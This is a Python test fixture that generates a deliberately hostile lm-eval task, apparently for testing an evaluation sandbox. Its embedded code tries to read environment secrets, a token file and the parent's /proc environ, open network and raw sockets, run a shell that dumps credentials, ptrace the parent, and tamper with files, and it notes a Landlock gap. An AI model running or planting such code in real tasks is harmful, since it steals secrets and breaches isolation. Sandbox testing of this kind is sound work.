"""A task of lm-eval whose code tries to get at what is not its own, and tells in the model's questions what it got."""

import json
import textwrap
from pathlib import Path

import yaml

CODE = """
import ctypes, json, os, signal, socket, subprocess, sys

TARGETS = json.loads({targets!r})
SECRETS = TARGETS["secrets"]


def _try(what):
    try:
        return what()
    except BaseException as error:
        return f"refused {{type(error).__name__}}"


def _connect():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as way:
        way.connect(("127.0.0.1", TARGETS["port"]))
        way.sendall(b"stolen")
    return "GOT connected"


def _raw_connect():
    # Past every hook of Python: straight to the kernel.
    number = ctypes.CDLL(None).socket(2, 1, 0)
    return "GOT a raw socket" if number >= 0 else "refused raw socket"


def _unix():
    way = socket.socket(socket.AF_UNIX)
    way.connect(TARGETS["unix"])
    return "GOT a local socket"


def _read(path):
    with open(path, "rb") as file:
        return "GOT " + file.read().decode(errors="replace")[:2000]


def _write(path):
    with open(path, "w") as file:
        file.write("mine")
    return "GOT written"


def _truncate():
    # By path: on kernels before 6.2, Landlock does not refuse this for any file.
    path = os.environ["HOME"] + "/cut"
    _write(path)
    os.truncate(path, 0)
    return "GOT truncated by path"


def _mode(path):
    # The call is said to have succeeded, and has no effect: the test looks at the file.
    os.chmod(path, 0o777)
    os.utime(path, (1, 1))
    return "refused, in silence"


def _own(path):
    os.chown(path, os.getuid(), os.getgid())
    return "GOT the owner"


def _attribute(path):
    os.setxattr(path, "user.mine", b"1")
    return "GOT an attribute"


def _parent():
    return _read(f"/proc/{{os.getppid()}}/environ")


def _shell():
    told = subprocess.run(["/bin/sh", "-c", f"cat {{TARGETS['token']}}; env"], capture_output=True, text=True)
    return "GOT " + told.stdout if any(secret in told.stdout for secret in SECRETS) else "refused shell"


def _kill():
    os.kill(os.getppid(), 0)
    return "GOT at the parent"


def _trace():
    return "GOT a trace" if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else "refused trace"


def _open_files():
    own = [name for name in os.listdir("/proc/self/fd")]
    return f"GOT {{own}}" if len(own) > 30 else "refused files"


def _variables():
    return "GOT " + json.dumps(dict(os.environ)) if any(s in json.dumps(dict(os.environ)) for s in SECRETS) else "none"


def attempts():
    tried = {{
        "environment": _try(_variables),
        "connect": _try(_connect),
        "raw socket": _try(_raw_connect),
        "local socket": _try(_unix),
        "token": _try(lambda: _read(TARGETS["token"])),
        "runs": _try(lambda: _read(TARGETS["runs"] + "/private")),
        "write": _try(lambda: _write(TARGETS["runs"] + "/planted")),
        "list": _try(lambda: "GOT " + str(os.listdir(TARGETS["runs"]))),
        "truncate": _try(_truncate),
        "mode": _try(lambda: _mode(TARGETS["runs"] + "/private")),
        "owner": _try(lambda: _own(TARGETS["runs"] + "/private")),
        "attribute": _try(lambda: _attribute(TARGETS["runs"] + "/private")),
        "parent": _try(_parent),
        "kill": _try(_kill),
        "trace": _try(_trace),
        "shell": _try(_shell),
        "own temporary file": _try(lambda: _write(os.environ["HOME"] + "/scratch").replace("GOT", "allowed")),
    }}
    return json.dumps(tried)


def ask(doc):
    return attempts()
"""


def write_hostile(folder: Path, targets: dict[str, object]) -> Path:
    """Write the task, with two rows; its question to the model is what its attempts have given."""
    folder.mkdir(parents=True)
    (folder / "attack.py").write_text(textwrap.dedent(CODE).format(targets=json.dumps(targets)))
    rows = [{"ask": f"what {number}", "options": [" have", " food"], "right": 0} for number in range(2)]
    (folder / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    task = {
        "task": "hostile",
        "dataset_path": "json",
        "dataset_kwargs": {"data_files": {"test": "rows.jsonl"}},
        "test_split": "test",
        "output_type": "multiple_choice",
        "doc_to_choice": "options",
        "doc_to_target": "right",
        "metric_list": [{"metric": "acc", "aggregation": "mean", "higher_is_better": True}],
    }
    (folder / "hostile.yaml").write_text(f"{yaml.safe_dump(task)}doc_to_text: !function attack.ask\n")
    return folder
